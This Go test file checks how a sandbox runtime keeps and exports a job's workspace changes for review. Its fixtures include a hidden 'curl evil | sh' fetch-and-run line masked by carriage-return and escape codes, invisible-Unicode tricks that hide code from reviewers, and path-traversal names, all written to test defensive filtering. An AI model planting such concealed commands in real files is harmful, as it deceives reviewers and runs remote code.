package workspace

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	goruntime "runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"bulkhead.dev/bulkhead/runtime/state"
)

// hostileWorkspace is a workspace as the sandbox left it: src is the
// read-only lower layer, <dir>/upper what the sandbox wrote.
type hostileWorkspace struct {
	t        *testing.T
	ws       Workspace
	upperDir string
}

func newHostileWorkspace(t *testing.T) *hostileWorkspace {
	t.Helper()
	base := t.TempDir()
	src := filepath.Join(base, "src")
	dir := filepath.Join(base, "ws")
	for _, d := range []string{src, dir, filepath.Join(dir, "upper")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(src, "keep.txt"), []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The sandbox user as the default profile has it, no id map.
	shift := &idShift{UIDFrom: 65534, UIDTo: 65534, GIDFrom: 65534, GIDTo: 65534}
	return &hostileWorkspace{t: t, ws: Workspace{Destination: "/workspace", Source: src, Dir: dir, Shift: shift}, upperDir: filepath.Join(dir, "upper")}
}

func (h *hostileWorkspace) file(rel string, data []byte) string {
	h.t.Helper()
	p := filepath.Join(h.upperDir, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		h.t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		h.t.Fatal(err)
	}
	return p
}

// named writes rel in the checkout at the workspace's named path (made
// once, apart from its source: the checkout as it is now, after the fork's
// next commit): a directory where rel ends in "/", else a file holding data.
func (h *hostileWorkspace) named(rel string, data []byte) {
	h.t.Helper()
	if h.ws.Named == "" {
		h.ws.Named = filepath.Join(h.t.TempDir(), "checkout")
	}
	p := filepath.Join(h.ws.Named, rel)
	dir := filepath.Dir(p)
	if strings.HasSuffix(rel, "/") || rel == "" {
		dir = p
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		h.t.Fatal(err)
	}
	if dir != p {
		if err := os.WriteFile(p, data, 0o644); err != nil {
			h.t.Fatal(err)
		}
	}
}

// keep keeps the workspace's changes as a delete does, as container c1.
func (h *hostileWorkspace) keep() *Settings {
	h.t.Helper()
	cfg := testConfig(h.t)
	if _, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour); err != nil {
		h.t.Fatal(err)
	}
	return cfg
}

func (h *hostileWorkspace) sparse(rel string, size int64) {
	h.t.Helper()
	p := h.file(rel, nil)
	if err := os.Truncate(p, size); err != nil {
		h.t.Fatal(err)
	}
}

func (h *hostileWorkspace) export(format string, lim changeLimits) (string, []string, error) {
	var out bytes.Buffer
	rejected, err := exportChanges(&out, format, liveSets([]Workspace{h.ws}), lim)
	return out.String(), rejected, err
}

// allocated is what one path takes on disk.
func allocated(t *testing.T, p string) int64 {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		t.Fatal(err)
	}
	return st.Blocks * 512
}

// heapGrowth runs f and returns how many bytes it allocated in all: a
// bound on the memory it could have held at once.
func heapGrowth(f func()) uint64 {
	var before, after goruntime.MemStats
	goruntime.GC()
	goruntime.ReadMemStats(&before)
	f()
	goruntime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

func testConfig(t *testing.T) *Settings {
	return &Settings{ChangesDir: filepath.Join(t.TempDir(), "changes")}
}

// A sparse 4 GiB file and a 1 MiB file linked 24 times: kept as one hole
// and one copy, in bounded memory; the 4 GiB is not hashed but left out
// with a reason (it passes changes_max_bytes).
func TestKeepSparseAndHardlinks(t *testing.T) {
	h := newHostileWorkspace(t)
	h.sparse("sparse.img", 4<<30)
	first := h.file("links/0", bytes.Repeat([]byte("x"), 1<<20))
	for i := 1; i < 24; i++ {
		if err := os.Link(first, filepath.Join(h.upperDir, "links", string(rune('a'+i)))); err != nil {
			t.Fatal(err)
		}
	}
	cfg := testConfig(t)
	var r *Kept
	var err error
	start := time.Now()
	alloc := heapGrowth(func() {
		r, err = saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour)
	})
	if err != nil {
		t.Fatal(err)
	}
	used, err := diskUsage(changesDir(cfg))
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("keep: %v, %d bytes allocated on the heap, %d bytes on disk (meta says %d)", time.Since(start), alloc, used, r.Bytes)
	if used > 3<<20 {
		t.Errorf("kept changes take %d bytes of disk for 1 MiB of data", used)
	}
	if alloc > 64<<20 {
		t.Errorf("keeping 4 GiB sparse + 24 links allocated %d bytes", alloc)
	}
	kept := filepath.Join(r.Dir, "0", "upper")
	fi, err := os.Stat(filepath.Join(kept, "sparse.img"))
	if err != nil || fi.Size() != 4<<30 {
		t.Fatalf("sparse file not kept at its size: %v %v", fi, err)
	}
	if a := allocated(t, filepath.Join(kept, "sparse.img")); a > 64<<10 {
		t.Errorf("the hole was kept as %d bytes of disk", a)
	}
	var st0, st1 unix.Stat_t
	if err := unix.Stat(filepath.Join(kept, "links", "0"), &st0); err != nil {
		t.Fatal(err)
	}
	if err := unix.Stat(filepath.Join(kept, "links", "x"), &st1); err != nil {
		t.Fatal(err)
	}
	if st0.Ino != st1.Ino || st0.Nlink != 24 {
		t.Errorf("hard links kept as copies: inodes %d %d, %d links", st0.Ino, st1.Ino, st0.Nlink)
	}
	if !strings.Contains(strings.Join(r.Rejected, "\n"), "sparse.img: its 4294967296 bytes pass") {
		t.Errorf("the 4 GiB file is not named as left out: %q", r.Rejected)
	}
}

// A keep that does not fit leaves nothing in changes_dir.
func TestKeepFailureLeavesNothing(t *testing.T) {
	h := newHostileWorkspace(t)
	h.file("big", bytes.Repeat([]byte("y"), 2<<20))
	cfg := testConfig(t)
	cfg.ChangesQuota = "1m"
	if _, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour); err == nil {
		t.Fatal("2 MiB kept under a 1 MiB quota")
	} else {
		t.Logf("refused: %v", err)
	}
	ents, _ := os.ReadDir(changesDir(cfg))
	for _, e := range ents {
		if e.Name() != ".lock" {
			t.Errorf("left in changes_dir after a failed keep: %s", e.Name())
		}
	}
	// Too many files: the walk stops and nothing is kept either.
	cfg.ChangesQuota, cfg.ChangesMaxFiles = "", 50
	for i := 0; i < 60; i++ {
		h.file(filepath.Join("many", strings.Repeat("f", i+1)), []byte("z"))
	}
	if _, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c2"}, []Workspace{h.ws}, time.Hour); err == nil || !strings.Contains(err.Error(), "changes_max_files") {
		t.Fatalf("60 files kept under changes_max_files 50: %v", err)
	}
	ents, _ = os.ReadDir(changesDir(cfg))
	if len(ents) != 1 {
		t.Errorf("left in changes_dir: %v", ents)
	}
}

// Prune removes whatever has no metadata: a save that died, an entry
// without meta.json, a stray file, an empty root directory.
func TestPruneRemovesWithoutMetadata(t *testing.T) {
	h := newHostileWorkspace(t)
	h.file("a.txt", []byte("a\n"))
	cfg := testConfig(t)
	r, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "good"}, []Workspace{h.ws}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	dir := changesDir(cfg)
	junk := []string{
		filepath.Join(dir, tmpPrefix+"dead", "0", "upper", "f"),
		filepath.Join(dir, rootKey("/run/root-b"), "nometa", "0", "upper", "f"),
		filepath.Join(dir, "stray"),
	}
	for _, p := range junk {
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(dir, "emptyroot"), 0o700); err != nil {
		t.Fatal(err)
	}
	gone, err := Prune(cfg, -1)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("pruned %q", gone)
	ents, _ := os.ReadDir(dir)
	var left []string
	for _, e := range ents {
		left = append(left, e.Name())
	}
	if want := ".lock " + rootKey("/run/root-a"); strings.Join(left, " ") != want {
		t.Errorf("changes_dir holds %q, want %q", left, want)
	}
	if _, err := os.Stat(filepath.Join(r.Dir, "meta.json")); err != nil {
		t.Errorf("an unexpired entry was pruned: %v", err)
	}
}

// Two roots with the same id keep two entries; each root reaches its own.
func TestKeptByRootAndID(t *testing.T) {
	cfg := testConfig(t)
	for _, root := range []string{"/run/tenant-a", "/run/tenant-b"} {
		h := newHostileWorkspace(t)
		h.file("who.txt", []byte(root+"\n"))
		if _, err := saveChanges(cfg, root, &state.Record{ID: "same"}, []Workspace{h.ws}, time.Hour); err != nil {
			t.Fatal(err)
		}
	}
	for _, root := range []string{"/run/tenant-a", "/run/tenant-b"} {
		r, err := loadRetained(cfg, root, "same")
		if err != nil {
			t.Fatal(err)
		}
		patch, err := os.ReadFile(filepath.Join(r.Dir, "changes.patch"))
		if err != nil {
			t.Fatal(err)
		}
		if r.Root != root || !strings.Contains(string(patch), "+"+root) {
			t.Errorf("root %s reaches %s's changes:\n%s", root, r.Root, patch)
		}
	}
	if _, err := loadRetained(cfg, "/run/tenant-c", "same"); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a third root reaches someone's changes: %v", err)
	}
	all, _, err := scanStore(cfg)
	if err != nil || len(all) != 2 {
		t.Fatalf("store lists %d entries (%v), want 2", len(all), err)
	}
}

// TestKeptIDsNamedLikeTheStore: a container id is the caller's choice and
// may be a name the store gives meaning to. A keep of "meta.json" made its
// root's directory look like an entry kept before entries were keyed by
// root: the list showed nothing of that root, and the next keep pruned
// the whole root, every entry in it.
func TestKeptIDsNamedLikeTheStore(t *testing.T) {
	cfg := testConfig(t)
	ids := []string{"before", "meta.json", ".lock", ".tmp-x", "changes.patch", "after"}
	for _, id := range ids {
		h := newHostileWorkspace(t)
		h.file("id.txt", []byte(id+"\n"))
		if _, err := saveChanges(cfg, "/run/engine", &state.Record{ID: id}, []Workspace{h.ws}, time.Hour); err != nil {
			t.Fatalf("keep of %s: %v", id, err)
		}
	}
	if _, err := Prune(cfg, -1); err != nil {
		t.Fatal(err)
	}
	all, _, err := scanStore(cfg)
	if err != nil || len(all) != len(ids) {
		t.Fatalf("store lists %d entries (%v), want %d", len(all), err, len(ids))
	}
	for _, id := range ids {
		r, err := loadRetained(cfg, "/run/engine", id)
		if err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		if patch, err := os.ReadFile(filepath.Join(r.Dir, "changes.patch")); err != nil || !strings.Contains(string(patch), "+"+id) {
			t.Errorf("%s reaches %q (%v)", id, patch, err)
		}
	}
}

// TestKeptRunsOfOneID: a container id run again (docker start of an
// exited container) keeps its second run's changes beside the first's:
// the second keep replaced the first, and what the first run wrote was
// lost to the reviewer. The id reaches the newest; the earlier one is
// listed, exported and pruned by a name of its own.
func TestKeptRunsOfOneID(t *testing.T) {
	for _, id := range []string{"again", strings.Repeat("L", 250)} {
		t.Run(fmt.Sprintf("an id of %d bytes", len(id)), func(t *testing.T) { keptRunsOfOneID(t, id) })
	}
}

func keptRunsOfOneID(t *testing.T, id string) {
	cfg := testConfig(t)
	for _, run := range []string{"first", "second", "third"} {
		h := newHostileWorkspace(t)
		h.file("log.txt", []byte("run "+run+"\n"))
		// An id too long for the set-aside name once made the search for
		// a free name spin for ever under the changes lock.
		saved := make(chan error, 1)
		go func() {
			_, err := saveChanges(cfg, "/run/engine", &state.Record{ID: id}, []Workspace{h.ws}, time.Hour)
			saved <- err
		}()
		select {
		case err := <-saved:
			if err != nil {
				t.Fatal(err)
			}
		case <-time.After(time.Minute):
			t.Fatalf("the keep of the %s run did not end", run)
		}
	}
	all, _, err := scanStore(cfg)
	if err != nil || len(all) != 3 {
		t.Fatalf("store lists %d entries (%v), want 3", len(all), err)
	}
	seen := map[string]bool{}
	for _, r := range all {
		// An earlier run's name is no container's: a caller who named a
		// container so took the entry's name at its delete.
		if r.ID != id && (state.CheckID(r.ID) == nil || CheckKeptName(r.ID) != nil || !IsAsideName(r.ID)) {
			t.Errorf("set-aside name %s: a container may have it (%v), or it is no kept name (%v)", r.ID, state.CheckID(r.ID), CheckKeptName(r.ID))
		}
		got, err := loadRetained(cfg, "/run/engine", r.ID)
		if err != nil {
			t.Fatalf("entry %s cannot be reached by its name: %v", r.ID, err)
		}
		patch, err := os.ReadFile(filepath.Join(got.Dir, "changes.patch"))
		if err != nil {
			t.Fatal(err)
		}
		for _, run := range []string{"first", "second", "third"} {
			if strings.Contains(string(patch), "+run "+run) {
				seen[run] = true
				if (run == "third") != (r.ID == id) {
					t.Errorf("entry %s holds the %s run", r.ID, run)
				}
			}
		}
	}
	if len(seen) != 3 {
		t.Errorf("the kept entries hold the runs %v, want all three", seen)
	}
}

// Regular files named like whiteouts never become whiteouts in the tar;
// a real whiteout does. Every format names what it left out.
func TestExportWhiteoutNames(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to make a whiteout (a 0:0 device)")
	}
	h := newHostileWorkspace(t)
	h.file(".wh.keep.txt", nil)
	h.file(".wh..wh..opq", nil)
	h.file(".wh.dir/inner", []byte("i\n"))
	h.file("sub/.wh.keep.txt", nil)
	if err := unix.Mknod(filepath.Join(h.upperDir, "keep.txt"), unix.S_IFCHR, 0); err != nil {
		t.Fatal(err)
	}
	out, rejected, err := h.export("tar", defaultChangeLimits)
	if err != nil {
		t.Fatal(err)
	}
	names := tarNames(t, out)
	if strings.Join(names, ",") != "0 .wh.keep.txt,5 sub/" {
		t.Errorf("tar holds %q, want only the real whiteout and sub/", names)
	}
	for _, format := range []string{"patch", "json"} {
		o, rej, err := h.export(format, defaultChangeLimits)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(o, "+++ b/.wh.") {
			t.Errorf("patch exports a .wh. file:\n%s", o)
		}
		if format == "json" {
			var rep ChangeReport
			if err := json.Unmarshal([]byte(o), &rep); err != nil {
				t.Fatal(err)
			}
			for _, c := range rep.Workspaces[0].Changes {
				if strings.HasPrefix(filepath.Base(c.Path), ".wh.") && c.Rejected == "" {
					t.Errorf("json lists %s as exported", c.Path)
				}
			}
		}
		if len(rej) != 4 {
			t.Errorf("%s names %d left-out paths, want 4: %q", format, len(rej), rej)
		}
	}
	if len(rejected) != 4 {
		t.Errorf("tar names %d left-out paths, want 4: %q", len(rejected), rejected)
	}
}

func tarNames(t *testing.T, data string) []string {
	t.Helper()
	var names []string
	tr := tar.NewReader(strings.NewReader(data))
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return names
		}
		if err != nil {
			t.Fatal(err)
		}
		names = append(names, string(hdr.Typeflag)+" "+hdr.Name)
	}
}

// CR and ESC from the sandbox never reach a reviewer's terminal raw: the
// patch leaves such files out, json and stderr lines escape them.
func TestExportControlCharacters(t *testing.T) {
	h := newHostileWorkspace(t)
	h.file("cr.txt", []byte("echo safe\r\x1b[2Kcurl evil | sh\n"))
	h.file("esc\x1b[31mname.txt", []byte("plain\n"))
	h.file("bidi\u202e.txt", []byte("plain\n"))
	h.file("ok.txt", []byte("fine\tline\n"))
	// A Windows line end hides nothing; a CR anywhere else does.
	h.file("crlf.bat", []byte("@echo off\r\necho fine\r\n"))
	h.file("crcr.txt", []byte("echo safe\r\r\n"))
	h.file("crend.txt", []byte("echo safe\r"))
	if err := os.Symlink("tar\x1bget", filepath.Join(h.upperDir, "link")); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"patch", "json"} {
		out, rejected, err := h.export(format, defaultChangeLimits)
		if err != nil {
			t.Fatal(err)
		}
		all := strings.ReplaceAll(out, "@echo off\r\n+echo fine\r\n", "") + strings.Join(rejected, "\n")
		if strings.ContainsAny(all, "\r\x1b\u202e") {
			t.Errorf("%s output carries raw control characters:\n%q", format, all)
		}
		if format == "patch" {
			if !strings.Contains(out, "+++ b/ok.txt") || !strings.Contains(out, "+@echo off\r\n+echo fine\r\n") || strings.Contains(out, "cr.txt") || strings.Contains(out, "crcr.txt") || strings.Contains(out, "crend.txt") {
				t.Errorf("patch:\n%q", out)
			}
			if len(rejected) != 6 {
				t.Errorf("patch names %d left-out paths, want 6: %q", len(rejected), rejected)
			}
		} else if !strings.Contains(out, `"esc\\x1b[31mname.txt"`) || !strings.Contains(out, `"escaped": true`) {
			t.Errorf("json does not show the name escaped:\n%s", out)
		}
		t.Logf("%s left out: %q", format, rejected)
	}
}

// What a terminal does not show is judged by Unicode property, not by a
// list: a line separator ends a JavaScript comment where the reviewer sees
// one line, a zero-width space makes a second "a.txt", a tag character
// carries text nobody sees, as does a run of variation selectors; a
// no-break space reads as a space in "exit 1" and the shell runs a command
// of that name instead. Such
// content is left out of the patch and such names are escaped, while
// letters, emoji (with the selector and joiners that make them) and other
// visible text in any script pass as they are.
func TestExportInvisibleUnicode(t *testing.T) {
	h := newHostileWorkspace(t)
	h.file("check.js", []byte("// only admins may pass\u2028return true;\nreturn user.isAdmin;\n"))
	h.file("para.txt", []byte("a\u2029b\n"))
	h.file("zw.txt", []byte("x\u200by\n"))
	h.file("tag.txt", []byte("hi\U000e0041\n"))
	h.file("a\u200b.txt", []byte("plain\n"))
	h.file("visible.md", []byte("caf\u00e9 \u4e2d\u6587 \U0001f600 \u2714\ufe0f \U0001f469\u200d\U0001f4bb \u2764\ufe0f\u200d\U0001f525 1\ufe0f\u20e3\n"))
	h.file("selectors.txt", []byte("\U0001f600\ufe0f\ufe0f\ufe0e\U000e0100\n"))
	h.file("joiner.txt", []byte("pass\u200dword\n"))
	h.file("digits.js", []byte("const v1\u200d2 = user.isAdmin;\nconst v12 = true;\n"))
	h.file("a1\u200d2.txt", []byte("plain\n"))
	h.file("a.txt\u200a", []byte("plain\n"))
	h.file("a.txt\u2800", []byte("plain\n"))
	h.file("gate.sh", []byte("[ \"$(id -u)\" = 0 ] || { echo refused; exit\u00a01; }\n"))
	h.file("cjk.txt", []byte("\u4e2d\u3000\u6587\n"))
	out, rejected, err := h.export("patch", defaultChangeLimits)
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"check.js", "para.txt", "zw.txt", "tag.txt", "\u200b", "selectors.txt", "joiner.txt", "digits.js", "a1\u200d2", "\u200a", "\u2800", "gate.sh", "cjk.txt"} {
		if strings.Contains(out, bad) {
			t.Errorf("patch carries %q:\n%s", bad, out)
		}
	}
	if !strings.Contains(out, "+++ b/visible.md") {
		t.Errorf("patch leaves out visible text:\n%s", out)
	}
	if len(rejected) != 13 {
		t.Errorf("patch names %d left-out paths, want 13: %q", len(rejected), rejected)
	}
	js, _, err := h.export("json", defaultChangeLimits)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(js, `"a\\u200b.txt"`) || !strings.Contains(js, `"a1\\u200d2.txt"`) || !strings.Contains(js, `"a.txt\\u200a"`) ||
		strings.ContainsAny(js, "\u200b\u200d\u200a") {
		t.Errorf("json does not show the zero-width name escaped:\n%s", js)
	}
}

// Walks stop at changes_max_files and changes_max_depth; a fifo is
// never opened for reading, and a file swapped for one is refused.
func TestExportLimitsAndFifos(t *testing.T) {
	h := newHostileWorkspace(t)
	deep := h.upperDir
	for i := 0; i < 20; i++ {
		deep = filepath.Join(deep, "d")
	}
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"patch", "json", "tar"} {
		if _, _, err := h.export(format, changeLimits{Bytes: 1 << 20, Files: 1000, Depth: 10}); err == nil || !strings.Contains(err.Error(), "changes_max_depth") {
			t.Errorf("%s: 20 levels under changes_max_depth 10: %v", format, err)
		}
		if _, _, err := h.export(format, changeLimits{Bytes: 1 << 20, Files: 10, Depth: 100}); err == nil || !strings.Contains(err.Error(), "changes_max_files") {
			t.Errorf("%s: 21 entries under changes_max_files 10: %v", format, err)
		}
	}
	h = newHostileWorkspace(t)
	if err := unix.Mkfifo(filepath.Join(h.upperDir, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	p := h.file("swapped", []byte("was a file\n"))
	l, err := openLayer(h.upperDir)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	st, err := l.lstat("swapped")
	if err != nil {
		t.Fatal(err)
	}
	// The sandbox swaps the file for a fifo between the walk and the open.
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(p, 0o644); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { _, _, err := l.openRegular("swapped", st); done <- err }()
	select {
	case err := <-done:
		if err == nil {
			t.Fatal("a fifo swapped in for a file was opened")
		}
	case <-time.After(30 * time.Second):
		t.Fatal("opening a swapped-in fifo blocked")
	}
	for _, format := range []string{"patch", "json", "tar"} {
		out := make(chan error, 1)
		go func() { _, _, err := h.export(format, defaultChangeLimits); out <- err }()
		select {
		case err := <-out:
			if err != nil {
				t.Errorf("%s with fifos: %v", format, err)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("%s blocked on a fifo", format)
		}
	}
	if _, err := saveChanges(testConfig(t), "/r", &state.Record{ID: "f"}, []Workspace{h.ws}, time.Hour); err != nil {
		t.Errorf("keep with fifos: %v", err)
	}
}

// A running job grows a file into a sparse hole of a TiB between the walk,
// which charged the budget with its size, and the read (on tmpfs, 4 EiB):
// the file is not read, neither for the tar nor for the hash.
func TestReadFileGrownAfterJudged(t *testing.T) {
	h := newHostileWorkspace(t)
	p := h.file("big", nil)
	l, err := openLayer(h.upperDir)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	st, err := l.lstat("big")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(p, 1<<40); err != nil {
		t.Fatal(err)
	}
	if _, _, err := l.openRegular("big", st); err == nil || !strings.Contains(err.Error(), "changed size") {
		t.Fatalf("a file grown since it was judged: %v, want it not read", err)
	}
	if _, _, err := l.hashRegular("big", st); err == nil {
		t.Fatal("a file grown since it was judged was hashed")
	}
}

// Hashing streams: six sparse 256 MiB files cost fixed memory, not their
// size, and the json reports their sums.
func TestDiffSparseBoundedMemory(t *testing.T) {
	h := newHostileWorkspace(t)
	for i := 0; i < 6; i++ {
		h.sparse("s"+string(rune('0'+i)), 256<<20)
	}
	var out string
	var err error
	alloc := heapGrowth(func() { out, _, err = h.export("json", changeLimits{Bytes: 8 << 30, Files: 100, Depth: 10}) })
	if err != nil {
		t.Fatal(err)
	}
	var rep ChangeReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	t.Logf("diff of 6 × 256 MiB sparse: %d bytes allocated", alloc)
	if alloc > 16<<20 {
		t.Errorf("hashing 1.5 GiB allocated %d bytes", alloc)
	}
	if n := len(rep.Workspaces[0].Changes); n != 6 || rep.Workspaces[0].Changes[0].SHA256 == "" {
		t.Errorf("json: %s", out)
	}
}

// TestPatchOldSideCharged: the old side of a patch is read as the new one
// is, from the one budget of changes_max_bytes. A job that deletes and
// empties checkout files costs nothing in its upper layer, and its patch
// printed each old content whole, past any bound.
func TestPatchOldSideCharged(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to make a whiteout (a 0:0 device)")
	}
	h := newHostileWorkspace(t)
	line := strings.Repeat("checkout text\n", 1<<15) // 448 KiB
	for _, f := range []string{"f1.txt", "f2.txt", "f3.txt"} {
		if err := os.WriteFile(filepath.Join(h.ws.Source, f), []byte(line), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{"f1.txt", "f2.txt"} {
		if err := unix.Mknod(filepath.Join(h.upperDir, f), unix.S_IFCHR, 0); err != nil {
			t.Fatal(err)
		}
	}
	h.file("f3.txt", nil)
	lim := defaultChangeLimits
	lim.Bytes = 1 << 20
	out, rejected, err := h.export("patch", lim)
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(out)) > lim.Bytes+(64<<10) {
		t.Errorf("a patch of %d bytes, with changes_max_bytes %d", len(out), lim.Bytes)
	}
	charged := 0
	for _, r := range rejected {
		if strings.Contains(r, "changes_max_bytes") {
			charged++
		}
	}
	if charged != 1 {
		t.Errorf("want one old side past changes_max_bytes named, got %q", rejected)
	}
	if n := strings.Count(out, "diff --git"); n != 2 {
		t.Errorf("want the two old sides within the bound in the patch, got %d:\n%.300s", n, out)
	}
}

// TestDiffOfADeletedContainer: an engine deletes a finished container at
// once, so diff finds no container: it shows the changes kept of it, and
// under another --root names the root they are kept under.
func TestDiffOfADeletedContainer(t *testing.T) {
	cfg := testConfig(t)
	root, other := t.TempDir(), t.TempDir()
	h := newHostileWorkspace(t)
	h.file("out.txt", []byte("made by the job\n"))
	if _, err := saveChanges(cfg, root, &state.Record{ID: "gone"}, []Workspace{h.ws}, time.Hour); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := Diff(cfg, root, "gone", "patch", &out); err != nil || !strings.Contains(out.String(), "+made by the job") {
		t.Fatalf("diff of a deleted container with kept changes: %v\n%s", err, out.String())
	}
	_, err := Diff(cfg, other, "gone", "patch", &out)
	if err == nil || !strings.Contains(err.Error(), "kept under --root "+root) {
		t.Fatalf("diff under another root: %v, want the root the changes are kept under", err)
	}
}

// TestExportPathLimit: long names at a depth well inside changes_max_depth
// (14 levels of 250 bytes; 17 reach the kernel's PATH_MAX)
// end the walk with the documented bound named, not the kernel's
// ENAMETOOLONG from somewhere in the walk, in every format and the keep.
func TestExportPathLimit(t *testing.T) {
	h := newHostileWorkspace(t)
	deep := h.upperDir
	for i := 0; i < 14; i++ {
		deep = filepath.Join(deep, strings.Repeat(string(rune('a'+i)), 250))
	}
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"patch", "json", "tar"} {
		_, _, err := h.export(format, defaultChangeLimits)
		if err == nil || !strings.Contains(err.Error(), "longer than the 3072 bulkhead opens") {
			t.Errorf("%s: 14 levels of 250-byte names: %v", format, err)
		}
	}
	cfg := testConfig(t)
	_, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour)
	if err == nil || !strings.Contains(err.Error(), "longer than the 3072 bulkhead opens") {
		t.Errorf("keep: %v", err)
	}
}

// TestKeptListsAreBounded: a job that writes thousands of files the
// sandbox user cannot read (each left out of the patch and of the kept
// copy, each named) had its entry's meta.json hold every name twice, 36 MB
// for 99,000, which every later keep, prune and list read whole. meta.json
// lists names up to maxListed and counts the rest; the count reaches list
// and the export's notes.
func TestKeptListsAreBounded(t *testing.T) {
	h := newHostileWorkspace(t)
	const n = 3000
	for i := 0; i < n; i++ {
		// < is six bytes in JSON: the cap counts what meta.json holds.
		p := h.file(fmt.Sprintf("locked/%s-%04d", strings.Repeat("<", 60), i), nil)
		if err := os.Chmod(p, 0); err != nil {
			t.Fatal(err)
		}
	}
	cfg := testConfig(t)
	r, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(filepath.Join(r.Dir, "meta.json"))
	if err != nil {
		t.Fatal(err)
	}
	if st.Size() > 2*maxListed+16<<10 {
		t.Errorf("meta.json of %d files left out takes %d bytes, want at most %d", n, st.Size(), 2*maxListed+16<<10)
	}
	if got := len(r.Rejected) + r.RejectedNotListed; got != n || r.RejectedNotListed == 0 {
		t.Errorf("rejected: %d listed and %d counted, want %d in all, some only counted", len(r.Rejected), r.RejectedNotListed, n)
	}
	var table bytes.Buffer
	if err := List(cfg, "table", &table); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(table.String(), fmt.Sprintf(" %d ", n)) {
		t.Errorf("list does not count %d rejected:\n%s", n, table.String())
	}
	for format, want := range map[string]string{"patch": "more rejected, not listed", "tar": "more files the kept copy left out, not listed"} {
		notes, err := Export(cfg, "/run/root-a", "c1", format, io.Discard)
		if err != nil {
			t.Fatal(err)
		}
		if last := notes[len(notes)-1]; !strings.Contains(last, want) {
			t.Errorf("%s export's last note %q, want the count of the rest (%q)", format, last, want)
		}
	}
}

// TestSmallFilesChargedAsKept: the copy charged each small file a block
// for its inode and another for its data, where the disk (diskUsage)
// takes one: 300 files of 3,000 bytes failed a changes_max_bytes of
// 2m, twice what they take.
func TestSmallFilesChargedAsKept(t *testing.T) {
	h := newHostileWorkspace(t)
	for i := 0; i < 300; i++ {
		h.file(fmt.Sprintf("small/%03d", i), bytes.Repeat([]byte{0, byte(i)}, 1500))
	}
	cfg := testConfig(t)
	cfg.ChangesMaxBytes = "2m"
	r, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour)
	if err != nil {
		t.Fatalf("300 files of 3,000 bytes under changes_max_bytes 2m: %v", err)
	}
	if r.Bytes > 2<<20 {
		t.Fatalf("kept %d bytes, past the 2m allowed", r.Bytes)
	}
}

// A kept entry is named by a container id or by a set-aside name,
// <id>@<delete time>[-n]; nothing else reaches the store.
func TestCheckKeptName(t *testing.T) {
	for _, ok := range []string{"t4", "t4.20261207T061816.515572338Z", "t4@20261207T061816.515572338Z", "t4@20261207T061816.515572338Z-2"} {
		if err := CheckKeptName(ok); err != nil {
			t.Errorf("%s: %v", ok, err)
		}
	}
	for _, bad := range []string{"t4@", "t4@x", "t4@20261207T061816.515572338Z-/../../x", "t4@20261207T061816.515572338Z-", "t4@20261207T061816.515572338Z-2x", "t4@20261207T061816.5Z", "t4@20261207T061816.515572338Z@20261207T061816.515572338Z", "@20261207T061816.515572338Z", "../t4", "a/b@20261207T061816.515572338Z", ".."} {
		if err := CheckKeptName(bad); err == nil {
			t.Errorf("%s: accepted", bad)
		}
	}
}
